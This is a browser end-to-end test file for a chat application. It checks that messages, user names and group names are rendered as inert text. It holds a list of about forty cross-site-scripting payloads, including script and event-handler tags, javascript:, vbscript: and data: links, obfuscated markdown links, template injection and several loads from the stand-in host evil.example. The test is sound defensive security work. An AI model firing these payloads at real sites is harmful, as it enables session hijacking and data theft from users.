import { randomUUID } from "node:crypto";
import type { BrowserContext, Page } from "playwright-core";
import { expect, it } from "vitest";
import { call, enter, type Visitor } from "./fixtures/accounts.ts";
import { useStage } from "./fixtures/stage.ts";

const stage = useStage();

const run = "window.__xss=1";
const image = `<img src=x onerror=${run}>`;

/** Texts that would run something, or leave the page, in a page that puts them into itself as they are. */
const texts = [
  `<script>${run}</script>`,
  `<ScRiPt src=//evil.example/x.js></ScRiPt>`,
  image,
  `<img src="https://evil.example/track.png">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<body onload=${run}>`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<base href="https://evil.example/">`,
  `<style>@import url(https://evil.example/x.css)</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `</div></article><script>${run}</script>`,
  `<!--><script>${run}</script>-->`,
  `[x](javascript:${run})`,
  `[x](JaVaScRiPt:${run})`,
  `[x](&#106;avascript:${run})`,
  `[x](java&Tab;script:${run})`,
  `[x](<javascript:${run}>)`,
  `[x](\u0001javascript:${run})`,
  `[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==)`,
  `[x](vbscript:${run})`,
  `[x]: javascript:${run}\n\n[x]`,
  `<javascript:${run}>`,
  `![x](javascript:${run})`,
  `![x](https://evil.example/track.png)`,
  `![x](data:image/svg+xml,<svg/onload=${run}>)`,
  `[![x](https://evil.example/x.png)](javascript:${run})`,
  `[x](https://example.com/"onmouseover="${run})`,
  `[x](https://example.com "title\\" onmouseover=\\"${run}")`,
  `https://example.com/"><script>${run}</script>`,
  `[@x](mention:"><script>${run}</script>)`,
  `[@${image}](mention:channel)`,
  `\`\`\`"><img src=x onerror=${run}>\n</code></pre><script>${run}</script>\n\`\`\``,
  `| ${image} |\n|---|\n| <script>${run}</script> |`,
  `{{constructor.constructor("${run}")()}} \${${run}} <%= ${run} %>`,
  "\u202Egnp.exe [x](//evil.example)",
];

/** Notes what a page must not do: dialogs, and requests to anywhere else. */
function watch(context: BrowserContext, origin: string): string[] {
  const seen: string[] = [];
  context.on("dialog", (dialog) => {
    seen.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  context.on("request", (request) => {
    const url = new URL(request.url());
    if (url.origin !== origin && url.protocol !== "data:" && url.protocol !== "blob:") seen.push(`a request to ${request.url()}`);
  });
  return seen;
}

async function expectHarmless(page: Page, what: string): Promise<void> {
  const found = await page.evaluate(() => {
    const links = ["href", "src", "action", "formaction", "xlink:href", "srcdoc", "data"];
    const bad: string[] = [];
    for (const element of document.body.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        if (name.startsWith("on")) bad.push(`${element.tagName} ${name}`);
        if (links.includes(name) && /^[\s\u0000-\u0020]*(?:javascript|data|vbscript):/i.test(value))
          bad.push(`${element.tagName} ${name}=${value.slice(0, 60)}`);
      }
    }
    const foreign = document.querySelectorAll(
      '[role="log"] :is(script, iframe, object, embed, base, style, link, meta, form, video, math, img[src*="evil"])',
    );
    return {
      ran: (window as unknown as { __xss?: unknown }).__xss ?? null,
      bad,
      foreign: [...foreign].map((element) => element.outerHTML.slice(0, 100)),
    };
  });
  expect(found, what).toEqual({ ran: null, bad: [], foreign: [] });
}

async function lookAround({ page, chat }: Visitor, group: string, person: string): Promise<void> {
  await expectHarmless(page, "the list");
  await chat.open(group);
  for (let turn = 0; turn < 12; turn += 1) {
    await expectHarmless(page, `messages, turn ${turn}`);
    await chat.log.hover();
    await page.mouse.wheel(0, turn < 6 ? -1_200 : 1_200);
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
  }
  await page.getByRole("button", { name: "Details", exact: true }).click();
  await page.getByRole("complementary", { name: "Group details" }).getByText(person).first().waitFor();
  await expectHarmless(page, "details");
  await page.getByRole("button", { name: "Close details" }).click();
  await chat.composer.fill("@img");
  await page.getByRole("listbox", { name: "People to mention" }).waitFor();
  await expectHarmless(page, "mentions");
  await chat.composer.fill("");
  for (const name of ["New message", "Browse groups"]) {
    await chat.list.getByRole("button", { name }).first().click();
    await chat
      .dialog(name)
      .getByRole("option")
      .or(chat.dialog(name).getByRole("listitem"))
      .filter({ hasText: "<img" })
      .first()
      .waitFor();
    await expectHarmless(page, name);
    await page.keyboard.press("Escape");
    await chat.dialog(name).waitFor({ state: "hidden" });
  }
}

it("shows messages, names and groups that hold code as what they are: text", async () => {
  const [mallory, ann] = await Promise.all([enter(stage, `${image} Mallory`.slice(0, 80)), enter(stage, "Ann Aware")]);
  const { origin } = new URL(stage.app.url);
  const seen = [mallory, ann].map(({ context }) => watch(context, origin));
  const group = `${image}<b>G</b>`;
  const { channel } = await call<{ channel: { id: string } }>(mallory, "channel.createGroup", {
    name: group,
    description: `${image} [x](javascript:${run})`,
    visibility: "public",
    memberIds: [ann.id],
  });
  const sent: { id: string }[] = [];
  for (const text of texts)
    sent.push(await call(mallory, "message.send", { channelId: channel.id, clientId: randomUUID(), text }));
  for (const [at, text] of texts.slice(0, 6).entries()) {
    await call(ann, "message.send", {
      channelId: channel.id,
      clientId: randomUUID(),
      text: `About: ${text}`,
      replyToId: sent[at]?.id,
    });
  }
  expect(texts.length).toBeGreaterThanOrEqual(40);
  await ann.chat.row(group).waitFor();
  await mallory.chat.open(group);
  await mallory.chat.composer.pressSequentially("x");
  await lookAround(ann, group, mallory.name);
  // The server's own markup of all that, too.
  await ann.page.reload();
  await ann.chat.composer.waitFor();
  await expectHarmless(ann.page, "after a reload");
  await expect.poll(() => ann.page.title()).toContain(image);
  await expectHarmless(mallory.page, "the sender's own page");
  expect(seen.flat()).toEqual([]);
});

it("follows no link out of the page without cutting what leads back", async () => {
  const ann = await enter(stage, "Ann Links");
  await ann.chat.createGroup({ name: "Links" });
  await ann.chat.send("[outside](https://example.com/a) and https://example.com/b");
  const links = ann.chat.message("outside").getByRole("link");
  await links.nth(1).waitFor();
  for (const link of await links.all()) {
    expect(await link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    expect(await link.getAttribute("target")).toBe("_blank");
  }
});
